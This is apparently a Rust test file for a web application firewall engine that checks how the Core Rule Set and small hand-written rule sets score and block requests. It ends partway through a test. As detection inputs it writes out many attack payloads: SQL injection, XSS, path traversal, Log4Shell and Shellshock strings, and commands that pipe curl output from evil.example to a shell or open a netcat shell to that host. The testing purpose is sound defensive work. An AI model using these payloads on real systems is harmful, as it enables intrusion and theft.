//! The rule engine on its own: transactions through the phases, with
//! small hand-written rule sets and with all of CRS.

use std::sync::{Arc, OnceLock};

use palisade::waf::rule::{RuleSet, Step};
use palisade::waf::seclang;
use palisade::waf::tx::Transaction;
use palisade::waf::tx::request::RequestData;

use crate::util::crs_files;

fn rules_from(text: &str) -> Arc<RuleSet> {
    let source = seclang::load_str("test.conf", text).unwrap_or_else(|e| panic!("{e:?}"));
    Arc::new(RuleSet::compile(source).unwrap_or_else(|e| panic!("{e:?}")))
}

/// CRS at paranoia level 1, engine on, request bodies inspected.
fn crs() -> Arc<RuleSet> {
    static CRS: OnceLock<Arc<RuleSet>> = OnceLock::new();
    Arc::clone(CRS.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        let engine = dir.path().join("engine.conf");
        std::fs::write(&engine, "SecRuleEngine On\nSecRequestBodyAccess On\n").unwrap();
        let mut files = vec![engine];
        files.extend(crs_files());
        let source = seclang::load(&files).unwrap_or_else(|e| panic!("{e:?}"));
        Arc::new(RuleSet::compile(source).unwrap_or_else(|e| panic!("{e:?}")))
    }))
}

fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> RequestData {
    RequestData {
        method: method.as_bytes().to_vec(),
        uri_raw: target.as_bytes().to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers: headers
            .iter()
            .map(|(n, v)| (n.as_bytes().to_vec(), v.as_bytes().to_vec()))
            .collect(),
        remote_addr: "192.0.2.10".into(),
        remote_port: 40000,
        server_name: b"shop.example".to_vec(),
        server_port: 443,
        body: body.as_bytes().to_vec(),
    }
}

fn browser_headers() -> Vec<(&'static str, &'static str)> {
    vec![
        ("Host", "shop.example"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Connection", "keep-alive"),
        ("Cookie", "session=3f9a8c7d6e5b4a39; theme=dark"),
        ("Upgrade-Insecure-Requests", "1"),
        ("Sec-Fetch-Dest", "document"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Sec-Fetch-Site", "same-origin"),
        ("Referer", "https://shop.example/catalog"),
    ]
}

/// Runs phases 1 and 2; the status of the intervention, if any.
fn verdict(rules: &Arc<RuleSet>, req: RequestData) -> (Option<u16>, Transaction) {
    let mut tx = Transaction::new(Arc::clone(rules), req, "test-id".into());
    let status = tx
        .process_request_headers()
        .or_else(|| tx.process_request_body())
        .map(|i| i.status);
    (status, tx)
}

#[test]
fn setvar_arithmetic_chains_and_skip_after() {
    let rules = rules_from(
        "SecRuleEngine On\n\
         SecAction \"id:1,phase:1,pass,nolog,setvar:tx.score=0\"\n\
         SecRule ARGS \"@rx attack\" \"id:2,phase:1,pass,t:lowercase,setvar:tx.score=+5,setvar:'tx.hit_%{MATCHED_VAR_NAME}=1'\"\n\
         SecRule REQUEST_METHOD \"@streq POST\" \"id:3,phase:1,pass,chain,setvar:tx.score=+100\"\n\
           SecRule ARGS:name \"@rx ^x$\" \"setvar:tx.chained=1\"\n\
         SecRule TX:score \"@lt 5\" \"id:4,phase:1,pass,nolog,skipAfter:END\"\n\
         SecRule TX:score \"@ge %{tx.threshold_missing}\" \"id:5,phase:1,deny,status:418\"\n\
         SecMarker END\n",
    );
    let (status, tx) = verdict(
        &rules,
        request("GET", "/?q=ATTACK&name=x", &[("Host", "a")], ""),
    );
    assert_eq!(status, Some(418));
    assert_eq!(tx.tx_var("score"), Some(&b"5"[..]));
    assert_eq!(tx.tx_var("hit_args:q"), Some(&b"1"[..]));
    assert_eq!(tx.tx_var("chained"), None, "the chain's head did not match");

    let (status, tx) = verdict(&rules, request("GET", "/?q=fine", &[("Host", "a")], ""));
    assert_eq!(status, None, "skipAfter jumped over the deny");
    assert_eq!(tx.tx_var("score"), Some(&b"0"[..]));
}

#[test]
fn detection_only_logs_but_never_intervenes() {
    let rules = rules_from(
        "SecRuleEngine DetectionOnly\n\
         SecRule ARGS \"@contains evil\" \"id:1,phase:1,deny,log,msg:'evil in %{MATCHED_VAR_NAME}'\"\n",
    );
    let (status, tx) = verdict(&rules, request("GET", "/?a=evil", &[], ""));
    assert_eq!(status, None);
    assert_eq!(tx.matches.len(), 1);
    assert_eq!(tx.matches[0].msg, "evil in ARGS:a");
}

#[test]
fn crs_passes_a_benign_browser_request() {
    let rules = crs();
    let (status, tx) = verdict(
        &rules,
        request(
            "GET",
            "/catalog/search?q=blue+shoes&page=2&sort=price&size=42",
            &browser_headers(),
            "",
        ),
    );
    let fired: Vec<u64> = tx.matches.iter().map(|m| m.id).collect();
    assert_eq!(status, None, "rules fired: {fired:?}");
    assert_eq!(
        tx.tx_var("blocking_inbound_anomaly_score"),
        Some(&b"0"[..]),
        "{fired:?}"
    );
}

/// httpoxy: a `Proxy` request header is on CRS's restricted list. Rule
/// 920450 captures each header name in its chain starter, sets a TX
/// variable from the capture, and tests those variables in its chain link:
/// the starter's `setvar` must have run by then.
#[test]
fn crs_blocks_the_httpoxy_proxy_header() {
    let rules = crs();
    let mut headers = browser_headers();
    headers.push(("Proxy", "http://evil.example:8080"));
    let (status, tx) = verdict(&rules, request("GET", "/cgi-bin/app", &headers, ""));
    let fired: Vec<u64> = tx.matches.iter().map(|m| m.id).collect();
    assert!(fired.contains(&920450), "fired: {fired:?}");
    assert_eq!(status, Some(403), "fired: {fired:?}");
}

#[test]
fn crs_blocks_sql_injection_and_xss_through_its_anomaly_score() {
    let rules = crs();
    for (target, body, family) in [
        ("/item?id=1%27%20OR%20%271%27%3D%271", "", "942"),
        (
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            "",
            "941",
        ),
        ("/login", "user=admin%27--&password=x", "942"),
        ("/file?path=..%2F..%2F..%2Fetc%2Fpasswd", "", "930"),
    ] {
        let mut headers = browser_headers();
        let method = if body.is_empty() { "GET" } else { "POST" };
        if !body.is_empty() {
            headers.push(("Content-Type", "application/x-www-form-urlencoded"));
        }
        let len = body.len().to_string();
        headers.push(("Content-Length", &len));
        let (status, tx) = verdict(&rules, request(method, target, &headers, body));
        let fired: Vec<u64> = tx.matches.iter().map(|m| m.id).collect();
        assert_eq!(status, Some(403), "{target}: fired {fired:?}");
        assert!(fired.contains(&949110), "{target}: {fired:?}");
        assert!(
            fired.iter().any(|id| id.to_string().starts_with(family)),
            "{target}: expected a {family} rule in {fired:?}"
        );
    }
}

#[test]
fn hostile_request_data_never_panics_the_engine() {
    let rules = crs();
    let many_args: String = (0..10_000).map(|i| format!("a{i}=v{i}&")).collect();
    let mut headers = browser_headers();
    headers.push(("X-Weird", "\u{0}\u{1}%c0%af%00\u{ff}"));
    let cases = [
        request("GET", &format!("/?{many_args}"), &headers, ""),
        request(
            "POST",
            "/",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            &many_args,
        ),
        request("GET", "/%c0%ae%c0%ae/%00/..%5c..%5cwindows", &headers, ""),
        RequestData {
            uri_raw: b"/\xff\xfe?\xc3\x28=\xa0\xa1&%ZZ=%".to_vec(),
            body: b"\xed\xa0\x80\xf4\x90\x80\x80".to_vec(),
            ..request("POST", "/", &headers, "")
        },
    ];
    for req in cases {
        let target = String::from_utf8_lossy(&req.uri_raw)
            .chars()
            .take(40)
            .collect::<String>();
        let mut tx = Transaction::new(Arc::clone(&rules), req, "hostile".into());
        let _ = tx
            .process_request_headers()
            .or_else(|| tx.process_request_body());
        // CRS must have scored it: its own counters exist.
        assert!(
            tx.tx_var("blocking_inbound_anomaly_score").is_some(),
            "{target}"
        );
    }
}

#[test]
fn request_body_limits_reject_or_inspect_the_first_part() {
    let rules_for = |action: &str| {
        rules_from(&format!(
            "SecRuleEngine On\nSecRequestBodyAccess On\nSecRequestBodyLimit 64\nSecRequestBodyNoFilesLimit 64\n\
             SecRequestBodyLimitAction {action}\n\
             SecRule REQUEST_BODY \"@contains early\" \"id:1,phase:2,deny,status:406\"\n\
             SecRule REQUEST_BODY \"@contains late\" \"id:2,phase:2,deny,status:409\"\n"
        ))
    };
    let body = format!("{}early{}late", "a".repeat(10), "b".repeat(100));
    let headers = [("Content-Type", "text/plain")];

    let rules = rules_for("Reject");
    let mut tx = Transaction::new(
        Arc::clone(&rules),
        request("POST", "/", &headers, ""),
        "r".into(),
    );
    assert_eq!(tx.process_request_headers(), None);
    let mut verdict = None;
    for chunk in body.as_bytes().chunks(16) {
        verdict = verdict.or(tx.append_request_body(chunk));
    }
    assert_eq!(verdict.map(|i| i.status), Some(413));

    let rules = rules_for("ProcessPartial");
    let mut tx = Transaction::new(
        Arc::clone(&rules),
        request("POST", "/", &headers, ""),
        "p".into(),
    );
    for chunk in body.as_bytes().chunks(16) {
        assert_eq!(tx.append_request_body(chunk), None);
    }
    assert_eq!(tx.request.body.len(), 64, "only the first part is kept");
    assert_eq!(
        tx.process_request_body().map(|i| i.status),
        Some(406),
        "early is inspected, late is not"
    );
}

#[test]
fn response_bodies_are_inspected_for_configured_types_only() {
    let rules = rules_from(
        "SecRuleEngine On\nSecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n\
         SecRule RESPONSE_STATUS \"@eq 500\" \"id:1,phase:3,pass,log,msg:'server error'\"\n\
         SecRule RESPONSE_BODY \"@contains ORA-00933\" \"id:2,phase:4,deny,status:502\"\n",
    );
    for (content_type, expected) in [("text/html; charset=utf-8", Some(502)), ("image/png", None)] {
        let mut tx = Transaction::new(Arc::clone(&rules), request("GET", "/", &[], ""), "r".into());
        let headers = vec![(b"Content-Type".to_vec(), content_type.as_bytes().to_vec())];
        assert_eq!(tx.process_response_headers(500, b"HTTP/1.1", headers), None);
        assert_eq!(tx.matches.iter().map(|m| m.id).collect::<Vec<_>>(), [1]);
        assert_eq!(
            tx.append_response_body(b"<html>ORA-00933: SQL command not properly ended"),
            None
        );
        assert_eq!(
            tx.process_response_body().map(|i| i.status),
            expected,
            "{content_type}"
        );
    }
}

#[test]
fn ip_collections_persist_across_transactions_per_address() {
    use palisade::waf::collections::CollectionStore;
    let rules = rules_from(
        "SecRuleEngine On\n\
         SecAction \"id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.hits=+1\"\n\
         SecRule ARGS:flag \"@streq set\" \"id:2,phase:1,pass,nolog,setvar:ip.flag=1,expirevar:ip.flag=0\"\n\
         SecRule IP:hits \"@ge 3\" \"id:3,phase:1,deny,status:429\"\n\
         SecRule IP:flag \"@eq 1\" \"id:4,phase:1,deny,status:451\"\n",
    );
    let store = Arc::new(CollectionStore::new(1000));
    let from = |addr: &str, target: &str| {
        let mut req = request("GET", target, &[], "");
        req.remote_addr = addr.to_string();
        let mut tx =
            Transaction::new(Arc::clone(&rules), req, "c".into()).with_store(Arc::clone(&store));
        let verdict = tx.process_request_headers().map(|i| i.status);
        tx.process_logging();
        verdict
    };
    assert_eq!(from("198.51.100.1", "/"), None);
    assert_eq!(from("198.51.100.1", "/"), None);
    assert_eq!(
        from("198.51.100.2", "/"),
        None,
        "another address has its own count"
    );
    assert_eq!(
        from("198.51.100.1", "/"),
        Some(429),
        "third request from the same address"
    );
    // Set in one transaction (and blocked by rule 4 there), expired by the next.
    assert_eq!(from("198.51.100.3", "/?flag=set"), Some(451));
    assert_eq!(from("198.51.100.3", "/"), None, "expirevar:0 let it lapse");
    assert_eq!(store.len(), 3);
}

/// A `multiMatch` rule over the arguments, plain or negated, still leaves
/// out the arguments its exclusions name, at every step of its chain.
#[test]
fn multi_match_rules_pass_over_excluded_arguments() {
    let rules = rules_from(
        "SecRuleEngine On\n\
         SecRule ARGS|!ARGS:skip \"@rx etc/passwd\" \"id:1,phase:1,pass,multiMatch,t:none,t:urlDecode,setvar:tx.found=%{MATCHED_VAR_NAME}\"\n\
         SecRule ARGS|!ARGS:skip \"!@rx etc/passwd\" \"id:2,phase:1,pass,multiMatch,t:none,t:urlDecode,setvar:tx.lacking=%{MATCHED_VAR_NAME}\"\n",
    );
    let (_, tx) = verdict(
        &rules,
        request(
            "GET",
            "/?a=etc%252fpasswd&b=fine&skip=etc%252fpasswd&skip=fine",
            &[("Host", "a")],
            "",
        ),
    );
    assert_eq!(
        tx.tx_var("found"),
        Some(&b"ARGS:a"[..]),
        "etc%2fpasswd decodes to the literal, but not in the excluded argument"
    );
    assert_eq!(
        tx.tx_var("lacking"),
        Some(&b"ARGS:b"[..]),
        "the last argument lacking the literal that is not excluded"
    );
}

/// The prefilter skips a rule only when its literal is missing from the
/// value *as the rule sees it*: after the rule's transformations, in any
/// case, and at every step of a `multiMatch` chain.
#[test]
fn prefilter_never_hides_a_literal_that_transformations_reveal() {
    let rules = rules_from(
        "SecRuleEngine On\n\
         SecRule ARGS \"@rx <script\" \"id:1,phase:1,pass,t:none,t:htmlEntityDecode,setvar:tx.entity=1\"\n\
         SecRule ARGS \"@rx union\\s+select\" \"id:2,phase:1,pass,t:none,t:lowercase,setvar:tx.case=1\"\n\
         SecRule ARGS \"@pm passwd shadow\" \"id:3,phase:1,pass,t:none,t:removeWhitespace,setvar:tx.joined=1\"\n\
         SecRule ARGS \"@rx etc/passwd\" \"id:4,phase:1,pass,multiMatch,t:none,t:urlDecode,setvar:tx.multi=1\"\n\
         SecRule ARGS \"!@rx forbidden\" \"id:5,phase:1,pass,t:none,setvar:tx.negated=+1\"\n",
    );
    let (_, tx) = verdict(
        &rules,
        request(
            "GET",
            "/?a=%26lt%3Bscript%3E&b=1+UNION++SeLeCt+2&c=pass+wd&d=etc%252fpasswd&e=fine",
            &[("Host", "a")],
            "",
        ),
    );
    assert_eq!(
        tx.tx_var("entity"),
        Some(&b"1"[..]),
        "&lt;script decodes to <script"
    );
    assert_eq!(
        tx.tx_var("case"),
        Some(&b"1"[..]),
        "UNION SeLeCt in any case"
    );
    assert_eq!(
        tx.tx_var("joined"),
        Some(&b"1"[..]),
        "pass wd joins to passwd"
    );
    assert_eq!(
        tx.tx_var("multi"),
        Some(&b"1"[..]),
        "etc%2fpasswd decodes once more"
    );
    assert_eq!(
        tx.tx_var("negated"),
        Some(&b"1"[..]),
        "values lack the literal"
    );

    let (_, tx) = verdict(
        &rules,
        request("GET", "/?a=plain&b=words", &[("Host", "a")], ""),
    );
    for name in ["entity", "case", "joined", "multi"] {
        assert_eq!(tx.tx_var(name), None, "{name} matched a benign value");
    }
    let (_, tx) = verdict(
        &rules,
        request("GET", "/?e=Forbidden", &[("Host", "a")], ""),
    );
    assert_eq!(
        tx.tx_var("negated"),
        Some(&b"1"[..]),
        "rx is case-sensitive"
    );
    let (_, tx) = verdict(
        &rules,
        request("GET", "/?e=forbidden", &[("Host", "a")], ""),
    );
    assert_eq!(
        tx.tx_var("negated"),
        None,
        "the only value holds the literal"
    );
}

/// Rules that read only constants are evaluated at load ("folded"); a
/// transaction must not be able to tell. Here a gate (3) that skips rule
/// 4 is folded unless something can stop it from running: a request can
/// remove it (`ctl:ruleRemoveById`, 2), and then rule 4 must run. Setup
/// values (1) are in TX from the start; a value a request decides (10)
/// keeps the rule that reads it (11) in place.
#[test]
fn folding_a_gate_respects_a_ctl_that_removes_it() {
    let text = "SecRuleEngine On\n\
        SecAction \"id:1,phase:1,pass,nolog,setvar:tx.level=1\"\n\
        SecRule ARGS:exempt \"@streq yes\" \"id:2,phase:1,pass,nolog,ctl:ruleRemoveById=3\"\n\
        SecRule TX:level \"@lt 2\" \"id:3,phase:1,pass,nolog,skipAfter:END\"\n\
        SecRule ARGS \"@rx attack\" \"id:4,phase:1,deny,status:403\"\n\
        SecMarker END\n\
        SecRule ARGS:mode \"@rx .\" \"id:10,phase:1,pass,nolog,setvar:tx.mode=%{ARGS.mode}\"\n\
        SecRule TX:mode \"@streq strict\" \"id:11,phase:1,pass,nolog,skipAfter:END2\"\n\
        SecRule ARGS \"@rx attack\" \"id:12,phase:1,deny,status:406\"\n\
        SecMarker END2\n";
    let compile = |optimise: bool| {
        let source = seclang::load_str("test.conf", text).unwrap_or_else(|e| panic!("{e:?}"));
        Arc::new(RuleSet::compile_with(source, optimise).unwrap_or_else(|e| panic!("{e:?}")))
    };
    let (folded, plain) = (compile(true), compile(false));
    assert!(folded.folded_rules >= 1, "the setup rule is folded");
    for (query, expected) in [
        ("q=attack", Some(406)),
        ("q=attack&exempt=yes", Some(403)),
        ("q=attack&mode=strict", None),
        ("q=attack&mode=strict&exempt=yes", Some(403)),
        ("q=fine", None),
    ] {
        for rules in [&folded, &plain] {
            let (status, tx) = verdict(rules, request("GET", &format!("/?{query}"), &[], ""));
            assert_eq!(status, expected, "{query}");
            assert_eq!(tx.tx_var("level"), Some(&b"1"[..]), "{query}");
        }
    }
}

/// A rule whose first link tests only constant TX variables and fails on
/// them fails in every transaction, whatever its actions read: it is
/// dropped at load (CRS's 949 score sums for paranoia levels above the
/// one set). One whose test passes on them keeps its actions but skips
/// the test, unless something could tell (a log entry, a `ctl` taking its
/// target away). Tests of what a request may set, and rules a `skip`
/// counts, stay as they are.
#[test]
fn constant_tests_are_settled_at_load_unless_a_request_could_tell() {
    let text = "SecRuleEngine On\n\
        SecAction \"id:1,phase:1,pass,nolog,setvar:tx.level=1\"\n\
        SecRule ARGS:a \"@rx .\" \"id:2,phase:1,pass,nolog,setvar:tx.score=+5\"\n\
        SecRule TX:level \"@ge 2\" \"id:3,phase:1,pass,nolog,setvar:tx.total=+%{tx.score}\"\n\
        SecRule TX:level \"@ge 1\" \"id:4,phase:1,pass,nolog,setvar:tx.total=+%{tx.score}\"\n\
        SecRule ARGS:lvl \"@rx .\" \"id:5,phase:1,pass,nolog,setvar:tx.level2=%{ARGS.lvl}\"\n\
        SecRule TX:level2 \"@ge 2\" \"id:6,phase:1,pass,nolog,setvar:tx.total=+100\"\n\
        SecRule TX:level \"@ge 1\" \"id:7,phase:1,pass,log,msg:'level %{MATCHED_VAR}'\"\n\
        SecRule ARGS:x \"@rx .\" \"id:8,phase:1,pass,nolog,ctl:ruleRemoveTargetById=9;TX:level\"\n\
        SecRule TX:level \"@ge 1\" \"id:9,phase:1,pass,nolog,setvar:tx.nine=1\"\n\
        SecRule ARGS:s \"@rx .\" \"id:20,phase:2,pass,nolog,skip:1\"\n\
        SecRule TX:level \"@ge 2\" \"id:21,phase:2,pass,nolog,setvar:tx.total=+%{tx.score}\"\n\
        SecRule ARGS:s \"@rx .\" \"id:22,phase:2,pass,nolog,setvar:tx.total=+1000\"\n\
        SecRule ARGS:m \"@rx .\" \"id:23,phase:2,pass,nolog,skipAfter:END\"\n\
        SecRule TX:level \"@ge 2\" \"id:24,phase:2,pass,nolog,setvar:tx.total=+%{tx.score}\"\n\
        SecRule ARGS:m \"@rx .\" \"id:25,phase:2,pass,nolog,setvar:tx.total=+2000\"\n\
        SecMarker END\n";
    let compile = |optimise: bool| {
        let source = seclang::load_str("test.conf", text).unwrap_or_else(|e| panic!("{e:?}"));
        Arc::new(RuleSet::compile_with(source, optimise).unwrap_or_else(|e| panic!("{e:?}")))
    };
    let (folded, plain) = (compile(true), compile(false));
    let left = |phase: usize| -> Vec<u64> {
        folded.phases[phase]
            .iter()
            .filter_map(|step| match step {
                Step::Rule(rule) => Some(rule.id),
                Step::Marker(_) => None,
            })
            .collect()
    };
    assert_eq!(
        left(0),
        [2, 4, 5, 6, 7, 8, 9],
        "1 is folded, 3 dropped, the rest stay"
    );
    // 4's test passes in every transaction and is taken as passed; 7
    // logs what it matched, and a request may take 9's target away.
    let passes: Vec<u64> = folded.phases[0]
        .iter()
        .filter_map(|step| match step {
            Step::Rule(rule) if rule.always_passes => Some(rule.id),
            _ => None,
        })
        .collect();
    assert_eq!(passes, [4]);
    // 21 is counted by 20's `skip:1`; 24 is only within 23's skip to a
    // marker, which passes over it the same whether it is there or not.
    assert_eq!(left(1), [20, 21, 22, 23, 25]);
    for rules in [&folded, &plain] {
        let (_, tx) = verdict(rules, request("GET", "/?a=x&x=1", &[], ""));
        assert_eq!(tx.tx_var("nine"), None, "9 lost its only target");
    }
    for (query, total) in [
        ("a=x", Some(&b"5"[..])),
        ("a=x&lvl=3", Some(&b"105"[..])),
        ("lvl=1", Some(&b"0"[..])),
        ("a=x&s=1", Some(&b"1005"[..])),
        ("a=x&m=1", Some(&b"5"[..])),
    ] {
        for rules in [&folded, &plain] {
            let (_, tx) = verdict(rules, request("GET", &format!("/?{query}"), &[], ""));
            assert_eq!(tx.tx_var("total"), total, "{query}");
            assert_eq!(tx.tx_var("nine"), Some(&b"1"[..]), "{query}");
        }
    }
}

/// The prefilter and load-time folding only skip what cannot change a
/// verdict: CRS at paranoia levels 1 (most rules skipped by folded
/// gates) and 4 (every rule on), compiled with and without them, fires
/// the same rules and leaves the same TX variables, through all five
/// phases, on attacks of every family, on benign traffic and on a request
/// CRS exempts with `ctl:ruleRemoveByTag` (the Apache pinger, 905100).
#[test]
fn optimisations_change_no_crs_verdict() {
    for paranoia in [1, 4] {
        optimised_and_plain_crs_agree(paranoia);
    }
}

fn optimised_and_plain_crs_agree(paranoia: u8) {
    let compile = |optimise: bool| {
        let dir = tempfile::tempdir().unwrap();
        let engine = dir.path().join("engine.conf");
        std::fs::write(
            &engine,
            format!(
                "SecRuleEngine DetectionOnly\nSecRequestBodyAccess On\n\
                 SecResponseBodyAccess On\n\
                 SecAction \"id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={paranoia}\"\n"
            ),
        )
        .unwrap();
        let mut files = vec![engine];
        files.extend(crs_files());
        let source = seclang::load(&files).unwrap_or_else(|e| panic!("{e:?}"));
        Arc::new(RuleSet::compile_with(source, optimise).unwrap_or_else(|e| panic!("{e:?}")))
    };
    let (with, without) = (compile(true), compile(false));
    assert!(
        with.folded_rules > 0 && without.folded_rules == 0,
        "folding is on only when optimising"
    );
    let mut fired_total = 0;
    let queries = [
        "q=blue+shoes&page=2",
        "id=1%27%20OR%20%271%27%3D%271",
        "id=1+UNION+ALL+SELECT+username,password+FROM+users--",
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "q=%26lt%3Bscript%26gt%3Balert(1)",
        "x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "u=javascript:alert(1)",
        "f=..%2F..%2F..%2Fetc%2Fpasswd",
        "f=....//....//etc/shadow",
        "cmd=%3Bcat%20%2Fetc%2Fpasswd",
        "cmd=b%22u%22sybox+wget+http://x",
        "cmd=$(curl+evil.example|sh)",
        "c=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
        "p=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E",
        "e=eval(base64_decode(%27ZWNobyAx%27))",
        "j=java.lang.Runtime.getRuntime().exec(%22id%22)",
        "n=%7B%22%24ne%22%3A1%7D",
        "s=1%20AND%20SLEEP(5)",
        "t=admin%27--",
        "u=%2565%2574%2563%252f%2570%2561%2573%2573%2577%2564",
        "w=SeLeCt%09*%09FrOm%09dual",
        "b=c2VsZWN0ICogZnJvbSB1c2Vycw%3D%3D",
        "r=http://169.254.169.254/latest/meta-data/",
        "plain=some+ordinary+form+text+value+12",
        // Bytes the validate operators look for (invalid UTF-8, NUL, an
        // undecodable escape), in values and in names: lists holding none
        // are passed over whole, these must not be.
        "v=%C3%28%FF&%C3%A9t%C3%A9=%E9",
        "z=a%00b&y=%01%7F",
        "m=%uff1c&bad=%zz%2",
        // A command spelled out in plain text (932260's long command list,
        // found by its literals on plain values).
        "c=nc+-e+sh+evil.example+4444&d=wget+evil.example",
        // Node.js injection behind base64 (934100 finds it after its
        // base64Decode step, through its own literal gate).
        "n=cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk%3D",
        // multiMatch steps that act only after an earlier one did: blanks
        // inside base64 (removeWhitespace, then base64Decode), a JS escape
        // (jsDecode), backslashed traversal in capitals (cmdLine).
        "n=cmVxdWlyZSgnY2hpbGRf+cHJvY2VzcycpLmV4ZWMoJ2lkJyk%3D",
        "j=%5Cu0072equire(%27child_process%27).exec(%27id%27)",
        "p=..%5C..%5CWINDOWS%5Cwin.ini&q=A%22%2C..%3B%2FX",
    ];
    for query in queries {
        for body in ["", query] {
            let mut headers = browser_headers();
            headers.push(("Cookie", "session=3f9a8c; pref=%3Cscript%3E"));
            headers.push(("X-Forwarded-For", "127.0.0.1; ls -la"));
            let method = if body.is_empty() { "GET" } else { "POST" };
            if !body.is_empty() {
                headers.push(("Content-Type", "application/x-www-form-urlencoded"));
            }
            let len = body.len().to_string();
            headers.push(("Content-Length", &len));
            let target = format!("/a/b.php?{query}");
            let req = request(method, &target, &headers, body);
            let (a, b) = (all_phases(&with, req.clone()), all_phases(&without, req));
            assert_eq!(a, b, "PL{paranoia} {method} {target}: optimised vs plain");
            fired_total += a.0.len();
        }
    }
    // Attacks outside the arguments: in one header (rules that read a
    // header by name, User-Agent or Referer), in the path (REQUEST_FILENAME
    // and REQUEST_BASENAME) and in the request line, which the rule gate
    // decides value by value.
    let elsewhere = [
        ("/a/b.php", "User-Agent", "sqlmap/1.8 (https://sqlmap.org)"),
        ("/a/b.php", "User-Agent", "() { :; }; /bin/bash -c 'id'"),
        ("/a/b.php", "User-Agent", "${jndi:ldap://evil.example/a}"),
        ("/a/b.php", "Referer", "javascript:alert(document.cookie)"),
        (
            "/a/b.php",
            "Referer",
            "http://x/?q=<script>alert(1)</script>",
        ),
        (
            "/a/b.php",
            "X-Api-Version",
            "1 UNION SELECT password FROM users",
        ),
        ("/etc/passwd", "Accept", "*/*"),
        ("/a/..%2f..%2fboot.ini", "Accept", "*/*"),
        ("/wp-admin/x.php%00.jpg", "Accept", "*/*"),
        ("/a/<script>alert(1)</script>", "Accept", "*/*"),
        ("/a/.env", "Accept", "*/*"),
    ];
    for (path, name, value) in elsewhere {
        let mut headers = browser_headers();
        headers.retain(|(n, _)| *n != name);
        headers.push((name, value));
        let req = request("GET", &format!("{path}?q=1"), &headers, "");
        let (a, b) = (all_phases(&with, req.clone()), all_phases(&without, req));
        assert_eq!(
            a, b,
            "PL{paranoia} {path} {name}: {value}: optimised vs plain"
        );
        fired_total += a.0.len();
    }
    // Apache's internal dummy connection: CRS removes its own rules for
    // it (905110), gates included.
    let mut pinger = request(
        "OPTIONS",
        "*",
        &[("User-Agent", "Apache (internal dummy connection)")],
        "",
    );
    pinger.remote_addr = "127.0.0.1".into();
    let (a, b) = (
        all_phases(&with, pinger.clone()),
        all_phases(&without, pinger),
    );
    assert_eq!(
        a, b,
        "PL{paranoia} the dummy connection: optimised vs plain"
    );
    assert!(
        a.1.iter()
            .all(|(name, _)| !name.starts_with("header_name_")),
        "CRS's rules ran for the dummy connection"
    );
    assert!(
        fired_total > 100 * usize::from(paranoia),
        "the attacks fired only {fired_total} rules at PL{paranoia}"
    );
}

/// The rules a request fires through all five phases (with a response
/// that leaks a password file), and the TX variables it leaves.
fn all_phases(rules: &Arc<RuleSet>, req: RequestData) -> (Vec<u64>, Vec<(String, Vec<u8>)>) {
    let (_, mut tx) = verdict(rules, req);
    tx.process_response_headers(
        200,
        b"HTTP/1.1",
        vec![(b"Content-Type".to_vec(), b"text/html".to_vec())],
    );
    tx.append_response_body(b"<html>root:x:0:0:root:/root:/bin/bash</html>");
    tx.process_response_body();
    tx.process_logging();
    let mut fired: Vec<u64> = tx.matches.iter().map(|m| m.id).collect();
    fired.sort_unstable();
    (fired, tx.tx_vars())
}

/// `multiMatch` tests every output a step changes, including those after
/// steps that leave the value alone (which the engine skips by what it
/// knows of the value's bytes): a case change after a transparent decoder,
/// a base64 payload split by blanks, and nothing when no output matches.
#[test]
fn multi_match_tests_outputs_after_steps_that_change_nothing() {
    let rules = rules_from(
        "SecRuleEngine On\n\
         SecRule ARGS \"@rx ^secret$\" \"id:1,phase:1,deny,status:403,t:none,t:urlDecodeUni,t:lowercase,multiMatch\"\n\
         SecRule ARGS \"@rx child_process\" \"id:2,phase:1,deny,status:406,t:none,t:urlDecodeUni,t:jsDecode,t:removeWhitespace,t:base64Decode,t:urlDecodeUni,multiMatch\"\n",
    );
    let cases = [
        ("/?a=SECRET", Some(403)),
        ("/?a=SeCrEt", Some(403)),
        ("/?a=secret", Some(403)),
        // `Y2hpbGRfcHJvY2Vzcw` is base64 for child_process; the blanks go
        // first (removeWhitespace), then it decodes.
        ("/?b=Y2hp+bGRf+cHJvY2Vzcw", Some(406)),
        ("/?b=%59%32hpbGRfcHJvY2Vzcw", Some(406)),
        ("/?a=secrets&b=Y2hpbGRf", None),
    ];
    for (target, expected) in cases {
        let (status, _) = verdict(&rules, request("GET", target, &[], ""));
        assert_eq!(status, expected, "{target}");
    }
}

/// A selection with no value at all has no output through any chain, but
/// an empty value does: `t:length` makes "0" of it.
#[test]
fn gate_tells_a_selection_with_no_value_from_one_with_an_empty_value() {
    let rules = rules_from(
        "SecRuleEngine On\n\
         SecRule ARGS \"@streq 0\" \"id:1,phase:1,deny,status:406,t:none,t:length\"\n\
         SecRule ARGS_NAMES \"@rx ^0$\" \"id:2,phase:1,deny,status:407,t:none,t:length\"\n",
    );
    let cases = [
        ("/", None),
        ("/?a=x", None),
        ("/?a=", Some(406)),
        ("/?=x", Some(407)),
    ];
    for (target, expected) in cases {
        let (status, _) = verdict(&rules, request("GET", target, &[], ""));
        assert_eq!(status, expected, "{target}");
    }
}

/// The rule gate learns once per transaction what holds for each target
/// (a variable, a selector, a chain) and for each set of targets rules
/// share; a rule must still be judged by its own literals, through its
/// own chain, on every target, and on the data as it stands.
#[test]
fn gate_shares_what_it_learns_of_targets_but_not_their_verdicts() {
    let rules = rules_from(
        "SecRuleEngine On\nSecRequestBodyAccess On\n\
